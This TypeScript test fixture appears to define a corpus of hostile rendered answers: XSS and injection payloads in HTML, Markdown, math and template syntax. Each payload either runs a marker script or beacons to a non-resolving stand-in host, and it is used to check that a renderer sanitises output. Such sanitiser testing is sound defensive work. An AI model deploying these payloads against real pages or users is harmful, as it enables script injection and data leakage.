/** The host that every case tries to reach; `.invalid` never resolves. */
export const HOSTILE_HOST = "hostile.invalid";

/** A script that leaves a trace in `globalThis.hacked`, for event handlers, script elements and URLs. */
const RUN = "(globalThis.hacked??=[]).push(CASE)";
const BEACON = `http://${HOSTILE_HOST}/CASE.png`;
const IMAGE = `<img src=x onerror="${RUN}"><img src="${BEACON}">`;

const HTML = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT>`,
  `</pre><script>${RUN}</script><pre>`,
  `</pre\n>${IMAGE}`,
  `</PRE/x>${IMAGE}`,
  `--></pre></div></details></summary>${IMAGE}`,
  `]]>${IMAGE}<![CDATA[`,
  IMAGE,
  `<img/src="${BEACON}"/onerror='${RUN}'//`,
  `<svg onload="${RUN}"><image href="${BEACON}"/></svg>`,
  `<svg><script>${RUN}</script><use href="data:image/svg+xml,<svg id=x onload='${RUN}'/>#x"/></svg>`,
  `<math><mtext><table><mglyph><style><!--</style>${IMAGE}`,
  `<style>@import "${BEACON}"; * { background: url("${BEACON}") }</style>`,
  `<link rel=stylesheet href="${BEACON}"><link rel=preload as=image href="${BEACON}">`,
  `<div style="background:url(${BEACON})" onmouseover="${RUN}">text</div>`,
  `<iframe src="javascript:parent.eval('${RUN}')"></iframe><iframe srcdoc="<script>parent.eval('${RUN}')</script>"></iframe>`,
  `<object data="${BEACON}"></object><embed src="${BEACON}">`,
  `<video src="${BEACON}" autoplay onerror="${RUN}"><source src="${BEACON}"></video><audio src="${BEACON}" onerror="${RUN}">`,
  `<meta http-equiv="refresh" content="0;url=${BEACON}"><base href="${BEACON}">`,
  `<form action="javascript:${RUN}"><button>go</button></form><input autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}"><summary>more</summary></details>`,
  `<a href="javascript:${RUN}">click</a> <a href="&#106;avascript:${RUN}">click</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">click</a> <a href="vbscript:${RUN}">click</a>`,
  `<button data-commandlinker-command="help:about" data-commandlinker-args="{}">click</button>`,
  `<template shadowrootmode="open">${IMAGE}</template><noscript><p title="</noscript>${IMAGE}">`,
  `<textarea></textarea>${IMAGE}<title></title>${IMAGE}<xmp></xmp>${IMAGE}<plaintext>`,
  `&lt;img src=x onerror="${RUN}"&gt; &amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62; &ltimg src=x onerror=${RUN}&gt`,
  `<\u0000script>${RUN}</script><img\u0000 src=x onerror="${RUN}">`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>\uFFFE\uFFFF\uD800<img src=x onerror="${RUN}">\uDC00`,
  `\uFF1Cscript\uFF1E${RUN}\uFF1C/script\uFF1E +ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
];

const MARKDOWN = [
  `!![x](${BEACON})`,
  `![x](${BEACON})`,
  `![x][r]\n\n[r]: ${BEACON}`,
  `\\!![x](${BEACON}) !\\[x](${BEACON})`,
  `\\\`${IMAGE}\\\``,
  `\`\`\`\n  \`\`\`\n${IMAGE}`,
  `\`\` \` a \`\` b \` ${IMAGE} \` x \`\``,
  `\`a\r\r${IMAGE}\``,
  `[a](b "\`") ${IMAGE} [c](d "\`")`,
  `http://a.test/\` ${IMAGE} \``,
  `\\begin{a}\n\`\`\`\n\\end{a}\n${IMAGE}\n\`\`\``,
  `- \`\`\`\n${IMAGE}\n\n> ~~~\n${IMAGE}`,
  `<!--\n\n-->\n\n${IMAGE}`,
  `\n\n${IMAGE}\n\n![x](${BEACON})\n\n`,
  `text\n \t \n![x](${BEACON})\n\n    ${IMAGE}`,
  `[click](javascript:${RUN})`,
  `[click](&#106;avascript:${RUN}) [click](java\nscript:${RUN})`,
  `[click](data:text/html;base64,PHNjcmlwdD5oYWNrZWQ9MTwvc2NyaXB0Pg==)`,
  `[click](vbscript:${RUN}) [click](file:///etc/passwd) [click](blob:x)`,
  `[click][j]\n\n[j]: javascript:${RUN}`,
  `<javascript:${RUN}> <${BEACON}>`,
  `| a | b |\n|---|---|\n| \`|\` | ${IMAGE} |`,
  `[^1]\n\n[^1]: ${IMAGE}`,
  `\`\`\`html\n${IMAGE}\n\`\`\``,
  `\`\`\`mermaid\ngraph TD; A["${IMAGE}"]; click A "javascript:${RUN}"\n\`\`\``,
];

const MATH = [
  String.raw`$\href{javascript:${RUN}}{x}$`,
  String.raw`$$\href{javascript:${RUN}}{x}$$ \(\href{javascript:${RUN}}{x}\) \[\href{javascript:${RUN}}{x}\]`,
  String.raw`$\unicode{60}img src=x onerror=${RUN}\unicode{62}$ $\style{background:url(${BEACON})}{x}$`,
  String.raw`$\includegraphics{${BEACON}}$ $\htmlData{commandlinker-command=help:about}{x}$`,
  String.raw`\begin{equation}\href{javascript:${RUN}}{x}\end{equation}`,
  String.raw`$\require{html}\cssId{x}{\class{y}{z}} \def\x{\x\x}\x$`,
  `$x \`$ ${IMAGE} \`$`,
  `$$\n\`\`\`\n$$\n${IMAGE}\n\`\`\``,
  `$a < b$ and \`$a & b$\` ${IMAGE}`,
];

const TEMPLATES = [
  `{{ constructor.constructor("${RUN}")() }} {% include "${BEACON}" %} \${${RUN}} <%= ${RUN} %>`,
  `<?php ${RUN} ?><!--#include virtual="${BEACON}" --><!doctype html>`,
  `\u001b]8;;javascript:${RUN}\u0007click\u001b]8;;\u0007 \u001b[2J\u009b31m\u202e`,
  `<script type="text/x-mathjax-config">${RUN}</script><script type=module src="${BEACON}"></script>`,
];

/**
 * Answers that try to run a script, reach {@link HOSTILE_HOST} or leave a dangerous link in programs that show them,
 * through HTML, Markdown, math or templates. A script that runs appends the case's index to `globalThis.hacked`.
 */
export const hostileAnswers: readonly string[] = [...HTML, ...MARKDOWN, ...MATH, ...TEMPLATES].map(
  (answer, index) => answer.replaceAll("CASE", String(index)),
);
